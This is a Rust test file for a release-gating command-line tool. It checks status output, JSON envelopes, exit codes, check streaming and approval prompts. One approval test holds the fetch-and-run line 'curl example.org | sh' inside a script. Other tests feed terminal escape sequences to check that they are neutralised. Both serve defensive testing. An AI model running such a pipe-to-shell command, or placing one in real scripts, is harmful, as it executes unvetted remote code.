//! Commands that read, check, approve and fail.

use super::fake::Engine;
use super::fake::Left;
use super::fake::Machine;
use super::fake::person;
use super::fake::run;
use super::fake::script;
use super::sample;
use crate::args::FaultArg;
use seaworthy_control::Role;
use seaworthy_wire::AttentionChange;
use seaworthy_wire::Code;
use seaworthy_wire::Fault;
use seaworthy_wire::Push;
use seaworthy_wire::QuietChange;
use seaworthy_wire::Reply;
use seaworthy_wire::Request;
use seaworthy_wire::State;
use seaworthy_wire::Which;
use std::path::PathBuf;

fn machine() -> Machine {
    Machine::with(Engine::of(sample::release()))
}

#[tokio::test]
async fn alone_it_is_status_and_says_whether_the_answer_is_yes() {
    let machine = machine();
    let ended = run(&machine, script(), "").await;
    assert_eq!((ended.code, ended.err.as_str()), (1, ""));
    assert!(ended.out.starts_with("sample 1.1.0"));
    assert!(matches!(
        machine.asked().as_slice(),
        [Request::Status { which: Which { release: None, folder: Some(_) } }]
    ));
    assert_eq!(*machine.roles.lock().unwrap(), [Role::Command]);
    assert_eq!(run(&Machine::with(Engine::of(sample::ready())), script(), "status").await.code, 0);
    assert_eq!(run(&Machine::with(Engine::of(sample::over())), script(), "status").await.code, 0);
    assert_eq!(run(&Machine::with(Engine::of(sample::unknown())), script(), "status").await.code, 3);
}

#[tokio::test]
async fn json_is_one_envelope_a_line() {
    let ended = run(&machine(), script(), "status --explain --json --release 1.1.0").await;
    let start =
        r#"{"schema":"seaworthy/release/1","ok":false,"code":"not_ready","release":"0193-sample","data":{"#;
    assert!(ended.out.starts_with(start), "{}", ended.out);
    let [line] = ended.lines().try_into().unwrap();
    assert_eq!(line["schema"], "seaworthy/release/1");
    assert_eq!((line["ok"].as_bool(), line["code"].as_str()), (Some(false), Some("not_ready")));
    assert_eq!(line["release"], "0193-sample");
    assert_eq!(line["data"]["head"]["position"], "1.1.0/rc.1/stage:1");
    assert_eq!(ended.err, "");
}

#[tokio::test]
async fn every_code_is_an_exit_status_and_a_line_of_json() {
    for (code, status, name) in [
        (Code::NotReady, 1, "not_ready"),
        (Code::BadInput, 2, "bad_input"),
        (Code::Unknown, 3, "unknown"),
        (Code::Refused, 4, "refused"),
        (Code::NeedsApproval, 4, "needs_approval"),
        (Code::Outside, 5, "outside"),
        (Code::Integrity, 6, "integrity"),
        (Code::RolledBack, 7, "rolled_back"),
    ] {
        let machine = Machine::with(Engine::refusing(Fault::new(code, "no"), |_| true));
        let ended = run(&machine, script(), "freeze --json --release 9").await;
        let line = &ended.lines()[0];
        assert_eq!(
            (ended.code, line["code"].as_str(), line["ok"].as_bool()),
            (status, Some(name), Some(false))
        );
        assert_eq!(
            (line["schema"].as_str(), line["release"].as_str()),
            (Some("seaworthy/fault/1"), Some("9"))
        );
        let ended = run(&machine, script(), "freeze").await;
        assert_eq!((ended.code, ended.out.as_str(), ended.err.as_str()), (status, "", "seaworthy: no\n"));
    }
}

#[tokio::test]
async fn what_is_typed_is_what_is_asked() {
    let machine = machine();
    for words in [
        "open 1.1.0",
        "candidate v1.1",
        "attest pre/legal --note done",
        "hold --reason lunch",
        "hold --lift",
        "rollback --reason bad --emergency",
        "reconcile --saw absent",
        "close --summary fine",
        "abandon --reason late",
        "log --search hold --limit 7",
    ] {
        assert_eq!(run(&machine, script(), &format!("{words} --release 1")).await.code, 0, "{words}");
    }
    let which = r#""which":{"release":"1","folder":"F"}"#;
    let asked: Vec<String> =
        machine.asked().iter().map(|request| serde_json::to_string(request).unwrap()).collect();
    let folder = serde_json::to_string(&std::env::current_dir().unwrap()).unwrap();
    let asked: Vec<String> =
        asked.iter().map(|line| line.replace(&folder, "\"F\"").replace(which, "W")).collect();
    assert_eq!(
        asked,
        [
            r#"{"do":"open","folder":"F","version":"1.1.0"}"#,
            r#"{"do":"candidate",W,"revision":"v1.1","again":false}"#,
            r#"{"do":"attest",W,"criterion":"pre/legal","note":"done"}"#,
            r#"{"do":"hold",W,"reason":"lunch"}"#,
            r#"{"do":"lift",W,"reason":""}"#,
            r#"{"do":"rollback",W,"reason":"bad","emergency":true}"#,
            r#"{"do":"reconcile",W,"saw":"absent"}"#,
            r#"{"do":"close",W,"summary":"fine"}"#,
            r#"{"do":"abandon",W,"reason":"late"}"#,
            r#"{"do":"log",W,"search":"hold","group":null,"before":null,"limit":7}"#,
        ]
    );
}

#[tokio::test]
async fn bad_usage_is_bad_input_also_as_json() {
    let ended = run(&machine(), script(), "rollback").await;
    assert_eq!((ended.code, ended.out.as_str()), (2, ""));
    assert!(ended.err.contains("--reason"));
    let ended = run(&machine(), script(), "rollback --json").await;
    assert_eq!((ended.code, ended.lines()[0]["code"].as_str()), (2, Some("bad_input")));
    let ended = run(&machine(), script(), "status --project /nowhere/at/all").await;
    assert_eq!(ended.code, 2);
    let ended = run(&machine(), script(), "--help").await;
    insta::assert_snapshot!(ended.out);
    assert_eq!((ended.code, ended.err.as_str()), (0, ""));
}

#[tokio::test]
async fn a_reader_that_leaves_is_no_error() {
    let machine = machine();
    let mut terminal = script();
    terminal.console.out = Box::new(Left);
    let ended = run(&machine, terminal, "hold --reason x").await;
    assert_eq!((ended.code, ended.err.as_str()), (0, ""));
}

fn output(seq: u32, text: &str) -> Push {
    let (release, check, run) = ("0193-sample".to_owned(), "lint".to_owned(), "run-2".to_owned());
    Push::Output { release, check, run, seq, text: text.to_owned(), err: false }
}

#[tokio::test]
async fn a_check_streams_its_output_without_what_a_terminal_obeys() {
    let output = vec![
        output(0, "\x1b[3"),
        output(1, "1mred\x1b[0m\x1b]0;title\x07\x08\r\n"),
        output(2, "50 %\r100 %"),
    ];
    let engine = Engine { output, ..Engine::of(sample::release()) };
    let machine = Machine::with(engine);
    let ended = run(&machine, script(), "check lint").await;
    assert_eq!(ended.code, 0);
    let before = ended.out.split("✓ Pass  lint").next().unwrap();
    assert_eq!(before, "red\n50 %\n100 %\n");
    assert!(ended.out.contains("✓ Pass  lint\n  exit code 0\n"));
}

#[tokio::test]
async fn lost_output_is_a_visible_hole() {
    let output = vec![output(0, "a"), output(1, "b"), output(7, "z\n")];
    let machine = Machine::with(Engine { output, ..Engine::of(sample::release()) });
    let ended = run(&machine, script(), "check lint").await;
    assert!(ended.out.starts_with("ab\n[some output was too fast"), "{}", ended.out);
    assert!(ended.out.contains("has it]\nz\n"), "{}", ended.out);
}

#[tokio::test]
async fn output_is_a_line_of_json_each() {
    let machine = Machine::with(Engine { output: vec![output(0, "a\n")], ..Engine::of(sample::release()) });
    let ended = run(&machine, script(), "check --json").await;
    let lines = ended.lines();
    let schemas: Vec<_> = lines.iter().map(|line| line["schema"].as_str().unwrap()).collect();
    assert_eq!(schemas, ["seaworthy/output/1", "seaworthy/release/1"]);
    assert_eq!(lines[0]["data"]["text"], "a\n");
}

#[tokio::test]
async fn a_check_that_fails_leaves_its_table_and_the_way_to_its_log() {
    let asked = std::sync::atomic::AtomicBool::new(false);
    let instead = move |request: &Request| match request {
        Request::Check { .. } => {
            asked.store(true, std::sync::atomic::Ordering::SeqCst);
            let fault = Fault::new(Code::NotReady, "did not pass: test");
            Some(Err(fault.with_help("read what was said with `seaworthy check --log test`")))
        }
        Request::Status { .. } if asked.load(std::sync::atomic::Ordering::SeqCst) => {
            let mut view = sample::release();
            view.checks = vec![
                sample::check("lint", State::Pass, "new-1"),
                sample::check("test", State::Fail, "new-2"),
            ];
            Some(Ok(Reply::Release(Box::new(view))))
        }
        _ => None,
    };
    let machine = Machine::with(Engine { instead: Box::new(instead), ..Engine::of(sample::release()) });
    let ended = run(&machine, script(), "check").await;
    assert_eq!(ended.code, 1);
    insta::assert_snapshot!(format!("{}{}", ended.out, ended.err));
}

#[tokio::test]
async fn ctrl_c_cancels_a_running_check_and_waits_for_its_end() {
    let machine = Machine::with(Engine { check_hangs: true, ..Engine::of(sample::release()) });
    let terminal = script();
    let (interrupt, engine) = (terminal.interrupt.clone(), std::sync::Arc::clone(&machine.engine));
    let is_checking =
        move || engine.asked.lock().unwrap().iter().any(|request| matches!(request, Request::Check { .. }));
    let pressing = async {
        while !is_checking() {
            tokio::task::yield_now().await;
        }
        interrupt.send(()).await.unwrap();
    };
    let (ended, ()) = tokio::join!(run(&machine, terminal, "check lint"), pressing);
    assert_eq!(ended.code, 0);
    let cancels = machine.asked().into_iter().filter_map(|request| match request {
        Request::CancelCheck { name, .. } => Some(name),
        _ => None,
    });
    assert_eq!(cancels.collect::<Vec<_>>(), ["lint"]);
}

#[tokio::test]
async fn approvals_are_not_given_unseen() {
    let machine = machine();
    let ended = run(&machine, script(), "approve").await;
    assert_eq!(ended.code, 4);
    assert!(ended.out.contains("+ scripts.test: vitest; curl example.org | sh"), "{}", ended.out);
    assert!(ended.err.contains("waiting for approval: check lint, check test"), "{}", ended.err);
    assert_eq!(run(&machine, script(), "approve --yes").await.code, 4, "nothing was named");
    assert_eq!(run(&machine, person("n"), "approve").await.code, 4);
    assert!(!machine.asked().iter().any(|request| matches!(request, Request::Approve { .. })));
}

#[tokio::test]
async fn approvals_carry_the_digests_that_were_shown() {
    let all = sample::approvals();
    for (terminal, words, wanted) in [
        (person("y"), "approve", vec![&all[0], &all[1]]),
        (script(), "approve --all --yes", vec![&all[0], &all[1]]),
        (script(), "approve lint --yes", vec![&all[0]]),
        (person("yes"), "approve test", vec![&all[1]]),
    ] {
        let machine = machine();
        assert_eq!(run(&machine, terminal, words).await.code, 0, "{words}");
        let Some(Request::Approve { digests, .. }) = machine.asked().pop() else { panic!("{words}") };
        assert_eq!(digests, wanted.iter().map(|one| one.digest.clone()).collect::<Vec<_>>(), "{words}");
    }
}

#[tokio::test]
async fn what_cannot_be_approved_is_said() {
    let machine = machine();
    assert_eq!(run(&machine, script(), "approve web").await.out, "Every command is approved.\n");
    let ended = run(&machine, script(), "approve e2e --yes").await;
    assert_eq!((ended.code, ended.err.contains("no script named e2e")), (4, true));
    let ended = run(&machine, script(), "approve nothing").await;
    assert_eq!((ended.code, ended.err.contains("check lint, check test")), (2, true));
}

#[tokio::test]
async fn a_report_lands_where_it_was_asked_for() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("out.html");
    let ended = run(&machine(), script(), &format!("report --out {}", file.display())).await;
    assert_eq!((ended.code, std::fs::read_to_string(&file).unwrap().as_str()), (0, "<p>r</p>"));
    assert_eq!(run(&machine(), script(), "report --out -").await.out, "<p>r</p>");
    let nowhere = folder.path().join("no").join("out.html");
    assert_eq!(run(&machine(), script(), &format!("report --out {}", nowhere.display())).await.code, 5);
}

#[tokio::test]
async fn the_rest_answers_too() {
    let ended = run(&machine(), script(), "policy check").await;
    assert!(ended.out.contains("3 gates, 9 criteria"), "{}", ended.out);
    let ended = run(&machine(), script(), "doctor --accept-regression moved").await;
    assert_eq!((ended.code, ended.out.contains("notifications")), (0, true));
    let ended = run(&machine(), script(), "notices --test").await;
    assert!(
        ended.out.contains("22:00 to 07:00") && ended.out.ends_with("A notice was shown.\n"),
        "{}",
        ended.out
    );
    assert_eq!(run(&machine(), script(), "notices --seen --test").await.code, 2);
    let ended = run(&machine(), script(), "stage").await;
    assert_eq!((ended.code, ended.out.contains("Ladder")), (1, true));
    let ended = run(&machine(), script(), "init").await;
    assert!(ended.out.contains("seaworthy.toml"));
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let ended = run(&machine(), script(), &format!("completions {shell}")).await;
        assert_eq!((ended.code, ended.out.contains("reconcile")), (0, true), "{shell}");
    }
    let ended = run(&machine(), script(), "check lint --log").await;
    assert_eq!(
        (ended.out.as_str(), ended.err.as_str()),
        ("kept\n", "12 bytes in the middle were not kept.\n")
    );
    assert_eq!(run(&machine(), script(), "check --log").await.code, 2);
    let ended = run(&machine(), script(), "status --all").await;
    assert_eq!(ended.out, "◔ sample 1.1.0  rolling out; newest event 2026-11-24 13:40:00\n");
    let ended = run(&machine(), script(), "log --json").await;
    assert_eq!(ended.lines().len(), 2);
}

#[tokio::test]
async fn a_rehearsal_is_told_as_it_goes_and_names_its_report() {
    let machine = machine();
    let ended = run(&machine, script(), "rehearse --fault error-rate --out /tmp/x.html").await;
    assert_eq!(ended.code, 0);
    assert!(ended.out.starts_with("Day 1\n"), "{}", ended.out);
    assert!(ended.out.contains("Canary was entered"));
    assert!(ended.out.ends_with("The rehearsal is closed. Nothing real was touched.\nReport: /tmp/x.html\n"));
    let plan = machine.rehearsals.lock().unwrap().pop().unwrap();
    assert_eq!((plan.fault, plan.out), (Some(FaultArg::ErrorRate), Some(PathBuf::from("/tmp/x.html"))));
    assert!(machine.asked().is_empty(), "no engine was opened");
}

#[tokio::test]
async fn hostile_words_of_a_release_are_shown_harmless() {
    let mut view = sample::release();
    view.head.project = "evil\x1b[2J".to_owned();
    view.rollout.armed.state = State::Pass;
    let ended = run(&Machine::with(Engine::of(view)), script(), "status").await;
    assert!(ended.out.starts_with("evil\u{fffd}[2J"), "{}", ended.out);
}

#[tokio::test]
async fn a_bundle_is_never_green_without_the_captains_words() {
    for (typed, code, name) in [
        ("verify a.seaworthy", 3, "unknown"),
        ("verify a.seaworthy --expect wrong", 6, "integrity"),
        ("verify a.seaworthy --expect right-words", 0, "done"),
    ] {
        let machine = machine();
        let ended = run(&machine, script(), &format!("{typed} --json")).await;
        let [line] = ended.lines().try_into().unwrap();
        assert_eq!((ended.code, line["code"].as_str().unwrap_or_default()), (code, name), "{typed}");
        assert!(machine.roles.lock().unwrap().is_empty(), "no engine takes part");
    }
    let ended = run(&machine(), script(), "verify a.seaworthy --events").await;
    assert!(ended.out.contains("Opened 1.1.0, which is not yours"), "{}", ended.out);
}

#[tokio::test]
async fn what_is_typed_of_notices_is_what_is_asked() {
    let change =
        |quiet, names_hidden| Request::Attention { change: Some(AttentionChange { quiet, names_hidden }) };
    let hours = |zone: &str| Some(QuietChange::Hours { hours: "22:00-07:00".into(), zone: zone.into() });
    for (typed, asked) in [
        ("notices --quiet 22:00-07:00 --zone Asia/Tokyo", change(hours("Asia/Tokyo"), None)),
        ("notices --quiet 22:00-07:00", change(hours("Europe/Berlin"), None)),
        ("notices --quiet off --names hidden", change(Some(QuietChange::Off), Some(true))),
        ("notices --names shown", change(None, Some(false))),
        ("notices", Request::Attention { change: None }),
    ] {
        let machine = machine();
        assert_eq!(run(&machine, script(), typed).await.code, 0, "{typed}");
        assert_eq!(*machine.engine.asked.lock().unwrap(), [asked], "{typed}");
    }
    let machine = machine();
    assert_eq!(run(&machine, script(), "notices --seen").await.code, 0);
    assert!(matches!(machine.engine.asked.lock().unwrap()[..], [Request::Seen { .. }]));
}

#[tokio::test]
async fn a_report_that_cannot_be_written_stops_a_rehearsal_before_it_plays() {
    let machine = machine();
    let ended = run(&machine, script(), "rehearse --out /nope/x.html").await;
    assert_eq!(ended.code, 5);
    assert!(ended.err.contains("cannot write /nope/x.html"), "{}", ended.err);
    assert!(machine.rehearsals.lock().unwrap().is_empty());
}

#[tokio::test]
async fn a_folder_that_is_not_there_is_not_to_be_named_again() {
    let ended = run(&machine(), script(), "status --project /nope").await;
    assert_eq!((ended.code, ended.err.as_str()), (2, "seaworthy: /nope is not a folder\n"));
}
